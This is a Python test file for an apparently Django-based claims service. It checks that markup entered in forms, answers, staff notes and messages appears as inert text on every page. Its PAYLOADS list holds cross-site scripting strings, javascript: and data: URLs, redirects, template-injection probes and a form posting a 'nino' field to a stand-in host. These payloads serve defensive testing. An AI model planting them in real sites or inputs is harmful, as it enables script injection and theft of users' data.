"""Markup in a form, in answers and in what staff write: it comes out as text or not at all, on every page."""

from __future__ import annotations

import copy
import re

import pytest
from django.urls import reverse

from accounts.actors import system_actor
from casework.readers.attention import seen_of
from formspec.models import FormVersion
from notifications.actions import send_due_messages
from notifications.readers import mailbox
from tests.claims.browsing import address, html_of, posted, save
from tests.claims.sent import ANSWERS, answer, full_document, full_draft, sent_claim
from tests.core.html_tree import Element, tree
from tests.people import browser_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>a</a>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "<style>body { background: url('//x.example') }</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<form action='//x.example'><input name='nino'><button>Send</button></form>",
    "<meta http-equiv='refresh' content='0;url=//x.example'>",
    "<base href='//x.example'>",
    "<link rel='stylesheet' href='//x.example/a.css'>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }} {% debug %}",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
]
EVERYTHING = "\n\n".join(PAYLOADS)
FORBIDDEN = {"iframe", "object", "embed", "style", "base", "math", "frame", "applet"}
SCHEMES = re.compile(r"(https?|mailto|tel):|[/#?]|$", re.IGNORECASE)


def assert_inert(page: Element) -> None:
    """Nothing on the page runs, loads, covers or posts elsewhere but what our own templates put there."""
    for element in page.walk():
        where = f"<{element.name} {element.attrs}>"
        assert element.name not in FORBIDDEN, where
        assert not [name for name in element.attrs if name.startswith("on") or name in ("style", "srcdoc")], where
        assert element.name != "script" or "nonce" in element.attrs or "json" in element.attrs.get("type", ""), where
        # Our own pages that wait for a worker reload themselves; they name no address.
        assert element.name != "meta" or "url" not in element.attrs.get("content", "").lower(), where
        for name in ("href", "src", "action", "formaction", "data", "poster"):
            assert SCHEMES.match(element.attrs.get(name, "")), where
            assert "x.example" not in element.attrs.get(name, ""), where
    assert "alert(1)" not in "".join(script.text for script in page.all("script"))


def test_the_checker_itself_finds_each_of_them():
    for html in (
        "<script>1</script>", "<p onclick='x'></p>", "<a href='javascript:x'></a>", "<iframe></iframe>",
        "<form action='//x.example'></form>", "<p style='x'></p>", "<a href=' javascript:x'></a>",
    ):  # fmt: skip
        with pytest.raises(AssertionError):
            assert_inert(tree(html))


def hostile_document() -> dict:
    """The full form with markup in every text, written past the checks of the form studio."""
    spec = copy.deepcopy(full_document())
    spec |= {"title": EVERYTHING, "who_it_is_for": EVERYTHING, "before_you_start": [EVERYTHING]}
    spec["after_you_send"] = PAYLOADS
    for section in spec["sections"]:
        section |= {"title": EVERYTHING, "intro": EVERYTHING}
        for question in section["questions"]:
            for one in [question, *question.get("fields", ())]:
                one |= {"label": EVERYTHING, "hint": EVERYTHING, "why_we_ask": EVERYTHING, "guidance": EVERYTHING}
                if "options" in one:
                    one["options"] = [option | {"label": EVERYTHING} for option in one["options"]]
                if "statements" in one:
                    one["statements"] = PAYLOADS
            if "rows" in question:
                question["rows"] = question["rows"] | {"row_title": "{pet_name} " + EVERYTHING}
    spec["pages"] = [page | {"title": EVERYTHING} for page in spec["pages"]]
    spec["evidence"] = [item | {"name": EVERYTHING} for item in spec["evidence"]]
    return spec


@pytest.fixture(autouse=True)
def empty_mailbox(settings, tmp_path):
    settings.MAILBOX_DIR = tmp_path


def everywhere(alice, aisha, spec: dict | None, answers: dict, pets: tuple[str, ...]):
    """Every page that shows a form or its answers, to claimant and advisor: (name, response)."""
    browser, desk = browser_of(alice), browser_of(aisha)
    draft = full_draft(alice, spec)
    pages = list(FormVersion.objects.get(pk=draft.form_version_id).spec["pages"])
    answer(draft, alice, answers)
    for page in pages:
        yield page["key"], browser.get(address(draft, page["key"]))
        if "pets" in page["questions"]:
            added = browser.post(address(draft, page["key"]), {"_add": "1"})
            yield "row", browser.get(added["Location"])
            yield "row, wrong", save(browser, added["Location"], {"pet_name": pets[0], "pet_born-day": "x"})
            yield "rows", browser.get(address(draft, page["key"]))
    for name in ("claims:task_list", "claims:check_answers", "claims:save_for_later", "estimates:estimate"):
        yield name, browser.get(reverse(name, args=[draft.public_id]))
    for page in pages:
        shown = posted(browser.get(address(draft, page["key"])))
        emptied = {name: value if name.startswith("_base") else "" for name, value in shown.items()}
        yield f"{page['key']}, wrong", browser.post(address(draft, page["key"]), emptied)
    claim = sent_claim(alice, spec=spec, pets=pets, **{key: answers[key] for key in ("story", "name")})
    for name in ("sent", "pdf"):
        yield name, browser.get(reverse(f"claims:{name}", args=[claim.public_id]))
    staff = reverse("casework:staff_claim", args=[claim.reference])
    note = desk.post(reverse("casework:add_note", args=[claim.reference]), {"text": EVERYTHING[:4000]})
    assert note.status_code == 302
    change = {"status": "waiting", "message": EVERYTHING[:1900], "based_on": claim.status_changes.get().pk}
    change["seen"] = seen_of(claim)
    yield "preview", desk.post(reverse("casework:set_status", args=[claim.reference]), change)
    sent = desk.post(reverse("casework:set_status", args=[claim.reference]), change | {"confirm": "1"})
    assert sent.status_code == 302
    yield "staff claim", desk.get(staff)
    yield "work list", desk.get(reverse("casework:work_list"))
    yield "sent, changed", browser.get(reverse("claims:sent", args=[claim.public_id]))
    for name in ("home", "claims:my_claims", "accounts:home", "accounts:audit_trail"):
        yield name, browser.get(reverse(name))
    yield "start", browser.get(reverse("claims:start", args=["full-form"]))
    send_due_messages(limit=20, by=system_actor(alice.council, "messages"))
    assert len(mailbox()) == 2, "that it was sent, and that its status changed"
    yield "mailbox", browser.get(reverse("notifications:mailbox"))


@pytest.mark.slow
def test_markup_in_a_form_is_cleaned_everywhere(alice, aisha):
    seen = 0
    for name, response in everywhere(alice, aisha, hostile_document(), ANSWERS | {"story": "x"}, ("Rex", "Mog")):
        assert response.status_code in (200, 422) or name.endswith("wrong"), name
        assert_inert(html_of(response))
        seen += "alert(1)" in response.content.decode()
    assert seen > 10, "the payloads were there, as text"


@pytest.mark.slow
@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_in_answers_is_text_everywhere(alice, aisha, payload):
    answers = ANSWERS | {"story": payload, "name": {"first": payload[:60], "last": "Ashworth"}}
    alice.resident.name = payload
    alice.resident.save()
    claim = full_draft(alice)
    answer(claim, alice, answers)
    browser = browser_of(alice)
    for page in FormVersion.objects.get(pk=claim.form_version_id).spec["pages"]:
        assert_inert(html_of(browser.get(address(claim, page["key"]))))
    sent = sent_claim(alice, story=payload)
    staff = browser_of(aisha).get(reverse("casework:staff_claim", args=[sent.reference]))
    for response in (browser.get(reverse("claims:check_answers", args=[claim.public_id])), staff):
        assert_inert(html_of(response))
        assert " ".join(payload.split()) in html_of(response).text
